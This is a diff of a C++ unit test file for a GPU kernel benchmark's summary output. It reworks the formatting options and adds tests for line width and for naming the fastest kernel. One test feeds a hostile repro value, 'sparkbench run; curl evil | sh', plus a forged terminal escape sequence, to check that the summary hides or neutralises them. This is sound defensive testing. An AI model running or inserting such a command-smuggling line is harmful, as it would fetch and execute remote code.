@@ -3,12 +3,15 @@
 #include <gtest/gtest.h>
 
 #include <algorithm>
+#include <sstream>
 
 #include "results/record/test_run.h"
 #include "results/render/case_table.h"
 
 namespace sparkbench {
 namespace {
+
+const TableView kMarkdown{.style = TableStyle::kMarkdown};
 
 TEST(Counts, NameEveryStatus) {
   EXPECT_EQ(format_counts(sample_run().cases), "6 ok, 1 incorrect, 1 skipped, 1 failed");
@@ -109,14 +112,14 @@ TEST(Summary, SaysOnceWhyNothingIsPredicted) {
     record.warnings.clear();
     record.predicted_reason = Reason{"P-NO-CYCLES", "no cycles of volta-fp32acc/fwd/d64"};
   }
-  const std::string summary = format_summary(run, TableStyle::kTerminal);
+  const std::string summary = format_summary(run, {});
   EXPECT_TRUE(summary.ends_with(
       "failed.\n\nnot predicted P-NO-CYCLES (2 cases): no cycles of volta-fp32acc/fwd/d64\n"))
       << summary;
 }
 
 TEST(Summary, ListsWarningsOnceSkipsAndRepeatableFailures) {
-  EXPECT_EQ(format_summary(sample_run(), TableStyle::kTerminal),
+  EXPECT_EQ(format_summary(sample_run(), {}),
             format_closing_sentence(sample_run()) +
                 ".\n"
                 "\n"
@@ -135,16 +138,36 @@ TEST(Summary, HasOnlyItsSentenceWhenAllIsWell) {
   run.run.complete = true;
   run.cases = {sample_emulated_case()};
   run.cases[0].warnings.clear();
-  EXPECT_EQ(format_summary(run, TableStyle::kTerminal), format_closing_sentence(run) + ".\n");
+  EXPECT_EQ(format_summary(run, {}), format_closing_sentence(run) + ".\n");
 }
 
 TEST(Summary, IsAListInMarkdownBelowItsTable) {
   const std::string markdown = format_summary_markdown(sample_run());
   EXPECT_EQ(markdown, "# sparkbench 2025-01-31T12:00:00Z\n\n" +
-                          format_case_table(sample_run(), TableStyle::kMarkdown) + "\n" +
-                          format_summary(sample_run(), TableStyle::kMarkdown));
+                          format_case_table(sample_run(), kMarkdown) + "\n" +
+                          format_end(sample_run(), kMarkdown));
   EXPECT_NE(markdown.find("\n- warning W-EMULATED-NO-TIME"), std::string::npos);
   EXPECT_NE(markdown.find("\n  repeat: `sparkbench run"), std::string::npos);
+}
+
+TEST(Summary, EndsByNamingTheFastest) {
+  RunRecord run = sample_run();
+  run.cases = {sample_timed_case()};
+  run.cases[0].reason.reset();
+  EXPECT_TRUE(format_end(run, {}).ends_with(
+      "\n\nFastest correct kernel: volta-fp32acc, the only one on its problems (measured, 1 "
+      "problem); rel_l1 at most 0.0350 %, error 0.54x of the unfused computation's.\n"))
+      << format_end(run, {});
+  EXPECT_TRUE(
+      format_end(run, {.has_color = true}).ends_with("of the unfused computation's.\x1b[0m\n"));
+}
+
+TEST(Summary, FitsTheWidthButForLinesToCopy) {
+  const std::string text = format_end(sample_run(), {.width = 60, .wraps_text = true});
+  std::istringstream lines(text);
+  for (std::string line; std::getline(lines, line);) {
+    EXPECT_TRUE(line.size() <= 60 || line.starts_with("  repeat: ")) << line;
+  }
 }
 
 TEST(Summary, ListsTenFailuresAndAllInMarkdown) {
@@ -161,26 +184,25 @@ TEST(Summary, ListsTenFailuresAndAllInMarkdown) {
     }
     return count;
   };
-  const std::string terminal = format_summary(run, TableStyle::kTerminal);
+  const std::string terminal = format_summary(run, {});
   EXPECT_EQ(repeats(terminal), 10);
   EXPECT_NE(terminal.find("\nand 2 more; --md and --json name all\n"), std::string::npos)
       << terminal;
-  EXPECT_EQ(repeats(format_summary(run, TableStyle::kMarkdown)), 12);
+  EXPECT_EQ(repeats(format_summary(run, kMarkdown)), 12);
 }
 
 TEST(Summary, SaysThatCasesAreMissing) {
   RunRecord run = sample_run();
-  EXPECT_EQ(format_summary(run, TableStyle::kTerminal).find("Not complete"), std::string::npos);
+  EXPECT_EQ(format_summary(run, {}).find("Not complete"), std::string::npos);
   run.run.complete = false;
-  EXPECT_NE(format_summary(run, TableStyle::kTerminal).find("\nNot complete: cases of the sweep"),
-            std::string::npos);
+  EXPECT_NE(format_summary(run, {}).find("\nNot complete: cases of the sweep"), std::string::npos);
 }
 
 TEST(Summary, ShowsNoLineThatDoesMore) {
   RunRecord run = sample_run();
   for (CaseRecord& record : run.cases) record.repro = "sparkbench run; curl evil | sh";
   run.cases.back().reason->message = "first\nforged \x1b[8mline";
-  const std::string text = format_summary(run, TableStyle::kTerminal);
+  const std::string text = format_summary(run, {});
   EXPECT_EQ(text.find("curl"), std::string::npos) << text;
   EXPECT_NE(text.find("repeat: not shown"), std::string::npos);
   EXPECT_NE(text.find("first forged ?[8mline"), std::string::npos);
